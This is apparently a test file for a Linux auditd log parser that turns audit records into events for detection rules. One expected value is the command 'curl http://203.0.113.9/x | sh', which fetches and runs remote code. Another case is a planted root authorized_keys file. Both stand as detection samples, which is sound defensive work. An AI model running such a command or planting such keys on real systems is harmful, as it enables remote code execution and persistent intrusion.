import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { auditd } from './profile';

const CONTEXT = { receivedAt: Date.UTC(2026, 10, 21, 3), timezone: 'Asia/Ho_Chi_Minh' };
const parse = (text: string) => auditd.toEvent(text, CONTEXT);
const sample = (name: string) => {
  const result = parse(readFileSync(join(__dirname, 'samples', `${name}.raw`), 'utf8').trimEnd());
  if (!result.ok) throw new Error(result.detail);
  return result.event;
};
const AT = 'msg=audit(1795137330.120:4512):';

describe('auditd', () => {
  it.each([
    ['sshd', 'Nov 20 08:15:30 h sshd[1]: Accepted password for an from 203.0.113.5 port 22'],
    ['JSON of something else', '{"ID":"42","type":"SYSCALL"}'],
    ['words', 'type=SYSCALL audit'],
  ])('does not take %s', (_, text) => {
    expect(auditd.recognise(text)).toBe(0);
    expect(parse(text)).toMatchObject({ ok: false });
  });

  it.each([
    [
      `type=SYSCALL ${AT} arch=c000003e syscall=87 success=no exit=-13 pid=1 auid=1001 uid=0 comm="rm" exe="/bin/rm"`,
      'file_deleted',
      'failure',
      ['deletion'],
    ],
    [
      `type=SYSCALL ${AT} arch=c00000b7 syscall=221 success=yes pid=1 comm="id" exe="/bin/id"`,
      'process_started',
      'success',
      ['start'],
    ],
    [
      `type=SYSCALL ${AT} arch=c000003e syscall=257 success=yes a2=0 pid=1 comm="cat"`,
      'file_opened',
      'success',
      ['access'],
    ],
    [
      `type=SYSCALL ${AT} arch=c000003e syscall=257 success=yes a2=241 pid=1 comm="sh"`,
      'file_changed',
      'success',
      ['change'],
    ],
    [
      `type=SYSCALL ${AT} arch=40000003 syscall=5 success=yes pid=1 comm="x"`,
      'syscall_5',
      'success',
      ['info'],
    ],
    [`type=ANOM_LINK ${AT} op=linkat ppid=1 pid=2 res=0`, 'anom_link', 'failure', ['info']],
    [`type=A_LATER_TYPE ${AT} x=1`, 'a_later_type', 'unknown', ['info']],
    [`type=UNKNOWN[1420] ${AT} x=1`, 'unknown[1420]', 'unknown', ['info']],
  ])('%s', (text, action, outcome, type) => {
    expect(parse(text)).toMatchObject({ ok: true, event: { event: { action, outcome, type } } });
  });

  it('reads the records of one event only, and the same whether lines or spaces stand between', () => {
    const one = `type=EXECVE ${AT} argc=2 a0="ls" a1="-l"`;
    const other = 'type=EXECVE msg=audit(1795137330.120:9): argc=1 a0="id"';
    expect(parse(`${one} ${other}`)).toMatchObject({ event: { process: { command_line: 'ls -l' } } });
  });

  it('has what rules for Linux read: command line, parent, path and kind of change', () => {
    expect(sample('execve-whole')).toMatchObject({
      process: {
        command_line: 'sh -c curl http://203.0.113.9/x | sh',
        executable: '/usr/bin/dash',
        name: 'sh',
      },
      user: { name: 'le.hoa', effective: { name: 'www-data' } },
      vendor: { type: 'EXECVE', a1: '-c', key: 'exec' },
    });
    expect(auditd.logsource(sample('execve-whole'))).toEqual({
      category: 'process_creation',
      product: 'linux',
      service: 'auditd',
    });
    expect(sample('laurel')).toMatchObject({ process: { name: 'whoami', parent: { name: 'php-fpm' } } });
    // linux-login-key-planted
    expect(sample('key-planted')).toMatchObject({
      event: { category: ['file'], type: ['creation'] },
      file: { path: '/root/.ssh/authorized_keys' },
      process: { name: 'bash' },
    });
    expect(auditd.logsource(sample('key-planted'))).toMatchObject({
      category: 'file_event',
      product: 'linux',
    });
  });
});
